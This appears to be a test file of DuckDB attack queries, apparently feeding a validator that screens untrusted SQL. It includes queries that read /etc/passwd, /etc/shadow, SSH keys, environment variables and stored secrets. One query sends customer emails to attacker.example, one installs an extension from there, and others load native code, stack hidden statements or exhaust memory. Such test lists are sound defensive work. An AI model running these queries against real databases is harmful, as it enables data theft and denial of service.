-- Attacks on DuckDB. See attacks-shared.sql for the form of an entry.

--- read_csv: reads a file
SELECT * FROM read_csv('/etc/passwd')

--- read_csv with options: reads a file, line by line
SELECT * FROM read_csv('/etc/passwd', header = false, delim = ':')

--- read_csv_auto: reads a file
SELECT * FROM read_csv_auto('/etc/passwd')

--- read_text: reads a file
SELECT content FROM read_text('/etc/hostname')

--- read_text with a pattern: reads many files
SELECT * FROM read_text('/etc/*.conf')

--- read_blob: reads a file
SELECT * FROM read_blob('/etc/shadow')

--- read_parquet: reads a file
SELECT * FROM read_parquet('/tmp/other.parquet')

--- parquet_scan: reads a file
SELECT * FROM parquet_scan('/tmp/other.parquet')

--- parquet_metadata: reads a file
SELECT * FROM parquet_metadata('/tmp/other.parquet')

--- parquet_schema: reads a file
SELECT * FROM parquet_schema('/tmp/other.parquet')

--- parquet_kv_metadata: reads a file
SELECT * FROM parquet_kv_metadata('/tmp/other.parquet')

--- read_json: reads a file
SELECT * FROM read_json('/tmp/other.json')

--- read_json_auto: reads a file
SELECT * FROM read_json_auto('/tmp/other.json')

--- read_json_objects: reads a file
SELECT * FROM read_json_objects('/tmp/other.json')

--- read_ndjson: reads a file
SELECT * FROM read_ndjson('/tmp/other.json')

--- read_xlsx: reads a file with an extension
SELECT * FROM read_xlsx('/tmp/other.xlsx')

--- read_duckdb: opens another database
SELECT * FROM read_duckdb('/tmp/other.db', table_name = 'secret')

--- sniff_csv: reads a file; once ignored enable_external_access (CVE-2024-41672)
FROM sniff_csv('/etc/passwd')

--- sniff_csv by select: reads a file; once ignored enable_external_access (CVE-2024-41672)
SELECT prompt FROM sniff_csv('/etc/passwd')

--- glob: lists files
SELECT * FROM glob('/etc/*')

--- glob in from: lists files
FROM glob('/home/*/.ssh/*')

--- file name as a table: reads a file by its name
SELECT * FROM '/etc/passwd'

--- csv file as a table: reads a file by its name
SELECT * FROM '/tmp/other.csv'

--- parquet file as a table: reads a file by its name
SELECT * FROM 'other.parquet'

--- quoted file name as a table: reads a file by its name
SELECT * FROM "/tmp/other.csv"

--- quoted relative file name as a table: reads a file by its name
SELECT * FROM "other.parquet"

--- file name from first: reads a file by its name
FROM '/tmp/other.csv'

--- file name in a join: reads a file by its name
SELECT * FROM customers c JOIN '/tmp/other.csv' o ON o.id = c.id

--- file name in a subquery: reads a file by its name
SELECT * FROM customers WHERE id IN (SELECT id FROM '/tmp/other.csv')

--- file name behind a cte: the name inside means the file
WITH "/tmp/other.csv" AS (SELECT * FROM "/tmp/other.csv") SELECT * FROM "/tmp/other.csv"

--- file name behind a recursive cte: the name inside means the file
WITH RECURSIVE "/tmp/other.csv" AS (SELECT * FROM "/tmp/other.csv") SELECT * FROM "/tmp/other.csv"

--- file name in the first branch of a recursive cte: the name there means the file
WITH RECURSIVE "/tmp/o.csv" AS (SELECT * FROM "/tmp/o.csv" UNION ALL SELECT * FROM "/tmp/o.csv") SELECT * FROM "/tmp/o.csv"

--- url as a table: calls another machine
SELECT * FROM 'https://attacker.example/x.csv'

--- s3 url as a table: calls another machine
SELECT * FROM 's3://attacker/x.parquet'

--- read_csv of a url with data in it: sends data away
SELECT * FROM read_csv('https://attacker.example/?q=' || (SELECT string_agg(email, ',') FROM customers))

--- copy to: writes a file
COPY customers TO '/tmp/loot.csv'

--- copy query to: writes a file
COPY (SELECT * FROM customers) TO '/tmp/loot.parquet' (FORMAT parquet)

--- copy from: reads a file into a table
COPY customers FROM '/etc/passwd'

--- export database: writes files
EXPORT DATABASE '/tmp/loot'

--- import database: runs files
IMPORT DATABASE '/tmp/loot'

--- attach: opens another database
ATTACH '/tmp/other.db' AS other

--- attach sqlite: opens another database with an extension
ATTACH '/tmp/other.sqlite' (TYPE sqlite)

--- attach postgres: calls another server
ATTACH 'host=db user=postgres' AS pg (TYPE postgres)

--- detach: closes a database
DETACH other

--- DuckDB use: changes the database
USE other

--- install: fetches an extension
INSTALL httpfs

--- install from: fetches an extension from elsewhere
INSTALL evil FROM 'https://attacker.example'

--- load: runs native code
LOAD '/tmp/evil.duckdb_extension'

--- force install: fetches an extension
FORCE INSTALL shellfs

--- pragma database_list: tells the path of the file
PRAGMA database_list

--- pragma as a function: tells about a table
SELECT * FROM pragma_table_info('customers')

--- pragma_database_size: tells about the file
SELECT * FROM pragma_database_size()

--- pragma_storage_info: tells about the file
SELECT * FROM pragma_storage_info('customers')

--- pragma threads: changes the settings
PRAGMA threads = 64

--- pragma enable_profiling: writes a file
PRAGMA enable_profiling = 'json'

--- set: changes the settings
SET memory_limit = '100GB'

--- set global: changes the settings
SET GLOBAL enable_external_access = true

--- set variable: state of the session
SET VARIABLE loot = (SELECT max(email) FROM customers)

--- getvariable: state of the session
SELECT getvariable('loot')

--- reset: changes the settings
RESET memory_limit

--- current_setting: tells the settings
SELECT current_setting('home_directory')

--- getenv: reads the environment
SELECT getenv('HOME')

--- getenv by a method call: reads the environment
SELECT 'HOME'.getenv()

--- read_text by a method call: reads a file
SELECT ('/etc/passwd').read_text()

--- query: runs the text that it is given
SELECT * FROM query('SELECT * FROM duckdb_settings()')

--- query_table: reads the table that is named in a text
SELECT * FROM query_table('duckdb_secrets')

--- query_table with a list: reads the tables that are named in a text
SELECT * FROM query_table(['a', 'b'])

--- duckdb_secrets: tells secrets
SELECT * FROM duckdb_secrets()

--- which_secret: tells secrets
SELECT * FROM which_secret('s3://x', 's3')

--- duckdb_settings: tells the settings
SELECT * FROM duckdb_settings()

--- duckdb_tables: tells the tables
SELECT * FROM duckdb_tables()

--- duckdb_databases: tells the paths
SELECT path FROM duckdb_databases()

--- duckdb_functions: tells the functions
SELECT * FROM duckdb_functions()

--- duckdb_extensions: tells the paths
SELECT * FROM duckdb_extensions()

--- duckdb_logs: tells what others asked
SELECT * FROM duckdb_logs()

--- duckdb_temporary_files: tells the paths
SELECT * FROM duckdb_temporary_files()

--- duckdb_tables as a view: tells the tables
SELECT * FROM duckdb_tables

--- pg_catalog: tells the tables
SELECT * FROM pg_catalog.pg_tables

--- sqlite_master: tells the tables
SELECT * FROM sqlite_master

--- system schema: tells the tables
SELECT * FROM system.information_schema.tables

--- repeat table function: many rows
SELECT * FROM repeat(1, 100000000000)

--- range without an end: many rows
SELECT sum(range) FROM range(100000000000)

--- generate_series without an end: many rows
SELECT count(*) FROM generate_series(1, 100000000000)

--- repeat of a text: takes all memory
SELECT repeat('x', 2000000000)

--- lpad: takes all memory
SELECT lpad('x', 2000000000, 'y')

--- create temp table: allowed by a read-only database
CREATE TEMP TABLE loot AS SELECT * FROM customers

--- create or replace table: loses a table
CREATE OR REPLACE TABLE customers AS SELECT 1 AS id

--- create macro: code that stays
CREATE MACRO loot(x) AS x + 1

--- create table macro: code that stays
CREATE MACRO loot() AS TABLE SELECT * FROM read_text('/etc/passwd')

--- create secret: state of the session
CREATE SECRET s (TYPE s3, KEY_ID 'x', SECRET 'y')

--- create sequence: state of the database
CREATE SEQUENCE loot

--- create type: state of the database
CREATE TYPE mood AS ENUM ('a', 'b')

--- insert or replace: changes a row
INSERT OR REPLACE INTO customers SELECT * FROM customers

--- insert returning: adds a row and looks like a query
INSERT INTO customers SELECT id + 100, name, email, city, country, segment, signup_date, credit_limit FROM customers RETURNING id

--- checkpoint: writes the file
CHECKPOINT

--- force checkpoint: writes the file and stops others
FORCE CHECKPOINT

--- vacuum: writes the file
VACUUM ANALYZE customers

--- explain: not a query
EXPLAIN SELECT * FROM customers

--- explain analyze of a copy: writes a file
EXPLAIN ANALYZE COPY customers TO '/tmp/loot.csv'

--- summarize a file: reads a file
SUMMARIZE '/etc/passwd'

--- show all tables: tells the tables
SHOW ALL TABLES

--- show databases: tells the databases
SHOW DATABASES

--- show in a subquery: tells the tables
SELECT * FROM (SHOW ALL TABLES)

--- describe in a subquery: reads a file
SELECT * FROM (DESCRIBE SELECT * FROM '/tmp/other.csv')

--- summarize in a subquery: reads a file
SELECT * FROM (SUMMARIZE '/tmp/other.csv')

--- pivot statement: makes a type behind the scenes
PIVOT '/tmp/other.csv' ON a USING sum(b)

--- unpivot of a file: reads a file
UNPIVOT '/tmp/other.csv' ON a INTO NAME n VALUE v

--- from first with a file: reads a file
FROM '/tmp/other.csv' SELECT *

--- deallocate and prepare: code out of a string
PREPARE v AS SELECT * FROM read_text('/etc/passwd')

--- execute prepared: code out of a string
EXECUTE v

--- stacked set: changes the settings after a harmless statement
SELECT 1; SET enable_external_access = true

--- stacked copy: writes a file after a harmless statement
SELECT 1; COPY customers TO '/tmp/loot.csv'

--- stacked attach in a prepared statement: opens another database after a harmless statement
SELECT 1; ATTACH '/tmp/other.db'; SELECT * FROM other.secret

--- dollar quoted file name: a text that careless readers do not see
SELECT * FROM read_text($$/etc/passwd$$)

--- escape string file name: a text that careless readers do not see
SELECT * FROM read_text(E'/etc/\x70asswd')

--- file name in a list: reads many files
SELECT * FROM read_csv(['/etc/passwd', '/etc/group'])

--- table function in lateral: reads files named by rows
SELECT * FROM customers c, LATERAL read_text(c.name)

--- table function in a scalar subquery: reads a file
SELECT (SELECT content FROM read_text('/etc/hostname'))

--- table function in exists: tells whether a file is there
SELECT EXISTS (SELECT 1 FROM glob('/root/.ssh/id_rsa'))

--- schema-qualified table function: reads a file
SELECT * FROM main.read_text('/etc/passwd')

--- quoted table function: reads a file
SELECT * FROM "read_text"('/etc/passwd')

--- table function in upper case: reads a file
SELECT * FROM READ_TEXT('/etc/passwd')

--- arrow_scan: reads memory at an address
SELECT * FROM arrow_scan(1, 2, 3)

--- sqlite_scan: opens another database
SELECT * FROM sqlite_scan('/tmp/other.sqlite', 't')

--- postgres_query: runs code on another server
SELECT * FROM postgres_query('pg', 'DELETE FROM t')

--- postgres_scan: calls another server
SELECT * FROM postgres_scan('host=db', 'public', 't')

--- mysql_query: runs code on another server
SELECT * FROM mysql_query('my', 'DELETE FROM t')

--- st_read: reads a file with an extension
SELECT * FROM st_read('/tmp/other.shp')

--- json_execute_serialized_sql: runs the text that it is given
SELECT * FROM json_execute_serialized_sql('{}')

--- json_serialize_sql: not a reading of data
SELECT json_serialize_sql('SELECT 1')

--- test_all_types: internal
SELECT * FROM test_all_types()

--- force an error: stops the query with data in the message
SELECT error((SELECT max(email) FROM customers))

--- write_log: writes the log
SELECT write_log('x')

--- add_parquet_key: keeps a key
PRAGMA add_parquet_key('k', '0123456789112345')

--- txid: tells about the transaction
SELECT txid_current()

--- nextval: a write
SELECT nextval('loot')

--- currval: state of the session
SELECT currval('loot')

--- setseed: state of the session
SELECT setseed(0.5)

--- sleep: waits
SELECT sleep_ms(100000)

--- positional join with a file: reads a file
SELECT * FROM customers POSITIONAL JOIN '/tmp/other.csv'

--- columns with a lambda: code over all columns
SELECT COLUMNS(x -> getenv(x)) FROM customers

--- list_transform with a lambda: code over a list
SELECT list_transform(['HOME'], x -> getenv(x))

--- DuckDB parameter: a value that nobody gave
SELECT $1

--- DuckDB named parameter: a value that nobody gave
SELECT $name

--- merge into: writes by merging
MERGE INTO customers USING (SELECT 1 AS id) AS s USING (id) WHEN MATCHED THEN DELETE

--- two slashes: a division here, a comment to the parser
SELECT 1 // (SELECT count(*) FROM read_text('/etc/passwd'))

--- two slashes before a line end: a division here, a comment to the parser
SELECT 1 // getenv('HOME')
FROM customers

--- file name beside a cte with another file name: reads a file by its name
WITH RECURSIVE x AS (SELECT 1 AS a), "/tmp/Other.csv" AS (SELECT 1 AS a) SELECT * FROM "/tmp/other2.csv"

--- prefix alias: a name before a colon
SELECT x: getenv('HOME')

--- struct: braces
SELECT {'a': getenv('HOME')}

--- map: braces
SELECT MAP {'a': getenv('HOME')}

--- list comprehension: code over a list
SELECT [getenv(x) FOR x IN ['HOME']]

--- positional reference: another way to name columns
SELECT #1 FROM customers

--- dot inside a quoted name: one name here, schema and table to the parser
SELECT * FROM "main.orders"

--- text in the place of a table: reads a file by its name
SELECT * FROM 'orders'

--- text in the place of an alias: nothing but odd, and a table besides
SELECT * FROM customers, 'customers.csv' AS orders

--- texts that grow through calls in each other: uses up the memory outside of any limit
SELECT replace(replace(replace(replace(repeat('x',1000),'x',repeat('x',1000)),'x',repeat('x',1000)),'x',repeat('x',1000)),'x',repeat('x',1000)) AS s

--- repetitions of repetitions: uses up the memory
SELECT length(repeat(repeat(repeat(repeat(repeat('x',1000),1000),1000),1000),1000)) AS n

--- repetitions of repetitions through a subquery: uses up the memory
SELECT length(repeat(s, 1000)) AS n FROM (SELECT repeat('x', 1000) AS s FROM range(1000)) t

--- a long replacement of what many rows make: uses up the memory
SELECT length(replace(string_agg('x', ''), 'x', 'a text of more than a hundred characters, a text of more than a hundred characters, and one more time.')) AS n FROM range(1000000)

--- a width in a format: uses up the memory
SELECT format('{:>900000000}', 'x') AS s

--- a width in a C format: uses up the memory
SELECT printf('%900000000d', 1) AS s

--- a distance of long texts: cannot be stopped
SELECT levenshtein(string_agg('a',''), string_agg('z','')) AS x FROM range(300000)

--- another distance of long texts: uses up the memory
SELECT damerau_levenshtein(string_agg('a',''), string_agg('z','')) AS x FROM range(300000)
